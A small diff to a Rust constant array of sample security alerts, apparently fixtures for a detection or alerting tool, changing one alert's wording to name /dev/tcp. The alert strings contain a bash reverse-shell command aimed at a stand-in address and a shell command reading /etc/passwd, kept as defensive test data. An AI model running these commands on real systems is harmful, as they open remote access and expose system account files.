@@ -35,7 +35,7 @@ const ALERTS: [(&str, &str); 12] = [
     ("shell-from-service", "nginx started a shell: sh -c id; cat /etc/passwd"),
     (
         "reverse-shell",
-        "root opened a shell reverse shell: \
+        "root opened a /dev/tcp reverse shell: \
          sh -c timeout 1 bash -i >& /dev/tcp/192.0.2.10/4444 0>&1",
     ),
     (
